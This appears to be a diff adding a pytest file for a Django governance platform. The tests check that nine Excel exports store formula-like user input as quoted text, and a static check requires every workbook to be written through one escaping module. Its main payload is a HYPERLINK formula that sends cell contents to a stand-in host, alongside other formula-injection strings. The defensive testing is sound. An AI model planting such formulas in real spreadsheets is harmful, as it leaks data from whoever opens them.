@@ -1,0 +1,178 @@
+"""Findings of the second outside probe: formula injection in the Excel exports (7), deeply
+nested JSON (11), and resends by a worker moved out of the jurisdiction (9)."""
+
+from __future__ import annotations
+
+import ast
+import uuid
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from governance.campaigns import TaskInput, task_complete
+from grids import access
+from grids.models import Area
+from personnel.models import PostKind
+from tests.test_campaign_pages import launched_campaign
+from tests.test_case_workflow import report
+from tests.test_evaluations import QUARTER, YEAR, quarter_evaluated, worker  # noqa: F401
+from tests.test_ranking_pages import snapshot  # noqa: F401 (fixture)
+from tests.test_residents import register
+from tests.test_roster_pages import id_number, person
+
+# --- 7. Formula injection in every Excel export ------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://probe.example/?d="&A1,"点击查看")'
+
+
+def cells_of(response) -> list:
+    assert response.status_code == 200, response.status_code
+    workbook = load_workbook(BytesIO(response.content))
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_opens_as_text(response, text: str = FORMULA) -> None:
+    """The text is in the workbook as a text cell with Excel's quote prefix (it shows as
+    typed and stays text when edited), and no cell of the workbook is a formula."""
+    cells = cells_of(response)
+    found = [cell for cell in cells if cell.value == text]
+    assert found, f"{text!r} is not in the export"
+    assert [(cell.data_type, cell.quotePrefix) for cell in found] == [("s", True)] * len(found)
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+
+
+def rename(area: Area, name: str = FORMULA) -> None:
+    Area.objects.filter(pk=area.pk).update(name=name)
+
+
+@pytest.mark.parametrize(
+    "title", [FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "#N/A"]
+)
+def test_a_case_title_that_reads_as_a_formula_opens_as_text_in_the_case_export(client, demo, title):
+    report(demo, title=title)
+    client.force_login(demo.user("township1"))
+    # XML reads a carriage return as a line feed: Excel shows "\r=1+1" as "\n=1+1".
+    assert_opens_as_text(client.get(reverse("case_export")), title.replace("\r", "\n"))
+
+
+def test_a_residents_address_opens_as_text_in_the_register_export(client, demo):
+    register(demo, id_number=id_number(951), address=FORMULA)
+    client.force_login(demo.user("township1"))
+    assert_opens_as_text(client.post(reverse("resident_export"), {"reason": "季度排查核对"}))
+
+
+def test_a_reveals_purpose_opens_as_text_in_the_access_log_export(client, demo):
+    resident = register(demo, id_number=id_number(952))
+    access.resident_reveal(resident=resident, actor=demo.user("township1"), reason=FORMULA)
+    client.force_login(demo.user("county"))
+    assert_opens_as_text(client.get(reverse("access_log_export")))
+
+
+def test_a_tasks_result_opens_as_text_in_the_campaign_export(client, demo, roster):
+    campaign = launched_campaign(demo)
+    task = campaign.tasks.first()
+    task_complete(task=task, actor=demo.user("township1"), data=TaskInput(uuid.uuid4(), FORMULA))
+    client.force_login(demo.user("township1"))
+    assert_opens_as_text(client.get(reverse("campaign_export", args=[campaign.pk])))
+
+
+def test_an_area_name_opens_as_text_in_the_audit_log_export(client, demo):
+    rename(demo.grid1)
+    report(demo)  # its audit entry is of grid 1
+    client.force_login(demo.user("county"))
+    assert_opens_as_text(client.get(reverse("audit_log_export"), {"object_type": "case"}))
+
+
+def test_a_persons_name_and_employer_open_as_text_in_the_roster_export(client, demo):
+    staff = person(demo, name=FORMULA, area=demo.village1, serial=953)
+    type(staff).objects.filter(pk=staff.pk).update(employer="@SUM(1,1)")
+    client.force_login(demo.user("township1"))
+    response = client.get(reverse("staff_export"))
+    assert_opens_as_text(response)
+    assert_opens_as_text(response, "@SUM(1,1)")
+
+
+def test_an_area_name_opens_as_text_in_the_coverage_export(client, demo):
+    rename(demo.grid1)
+    client.force_login(demo.user("township1"))
+    response = client.get(reverse("staff_coverage_export"), {"post": PostKind.GRID_WORKER})
+    assert_opens_as_text(response)
+
+
+def test_a_village_name_opens_as_text_in_the_pay_sheet(client, demo, quarter_evaluated):  # noqa: F811
+    rename(demo.village1)
+    client.force_login(demo.user("township1"))
+    query = {"township": demo.township1.pk, "year": YEAR, "quarter": QUARTER}
+    assert_opens_as_text(client.get(reverse("pay_sheet_export"), query))
+
+
+def test_a_township_name_opens_as_text_in_the_bulletin_workbook(client, demo, snapshot):  # noqa: F811
+    rename(demo.township1)
+    client.force_login(demo.user("county"))
+    assert_opens_as_text(client.get(reverse("ranking_bulletin_xlsx", args=[snapshot.pk])))
+
+
+# Reading an uploaded workbook (grids.importing) is not writing one.
+READING_ONLY = {"openpyxl": {"load_workbook"}}
+# Cell formatting and column letters put no value in a cell.
+HARMLESS_MODULES = ("openpyxl.styles", "openpyxl.utils")
+
+
+def project_modules() -> list[Path]:
+    root = Path(settings.BASE_DIR)
+    skipped = {".venv", "node_modules", "tests", "migrations", ".git"}
+    return [
+        path
+        for path in root.rglob("*.py")
+        if not skipped & set(path.relative_to(root).parts)
+        and path.relative_to(root).as_posix() != "governance/xlsx.py"
+    ]
+
+
+def imported_modules(tree: ast.Module) -> set[str]:
+    names = set()
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Import):
+            names |= {alias.name for alias in node.names}
+        elif isinstance(node, ast.ImportFrom) and node.module:
+            names |= {node.module} | {f"{node.module}.{alias.name}" for alias in node.names}
+    return names
+
+
+def openpyxl_bypasses(path: Path) -> list[str]:
+    """What a module takes from openpyxl that could write a cell without governance.xlsx."""
+    tree = ast.parse(path.read_text(encoding="utf-8"))
+    found = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Import):
+            found += [alias.name for alias in node.names if alias.name.startswith("openpyxl")]
+        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
+            allowed = READING_ONLY.get(node.module, set())
+            if not node.module.startswith(HARMLESS_MODULES):
+                found += [f"{node.module}.{a.name}" for a in node.names if a.name not in allowed]
+    modules = imported_modules(tree)
+    if any(name.startswith(("openpyxl", "governance.xlsx")) for name in modules):
+        # A cell's value is set by append(), cell() or sheet[…] = …, which all escape it.
+        for node in ast.walk(tree):
+            targets = node.targets if isinstance(node, ast.Assign) else []
+            targets += [node.target] if isinstance(node, ast.AugAssign) else []
+            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in targets):
+                found.append(f"a cell's value set by hand on line {node.lineno}")
+    return found
+
+
+def test_every_workbook_is_written_through_the_platforms_one_door():
+    """Every writer takes its Workbook from governance.xlsx, whose sheets write text that
+    reads as a formula as text; none builds cells or sets their values with openpyxl."""
+    modules = project_modules()
+    assert any(path.name == "exporting.py" for path in modules)  # the walk finds the writers
+    offenders = {
+        path.relative_to(settings.BASE_DIR).as_posix(): found
+        for path in modules
+        if (found := openpyxl_bypasses(path))
+    }
+    assert offenders == {}
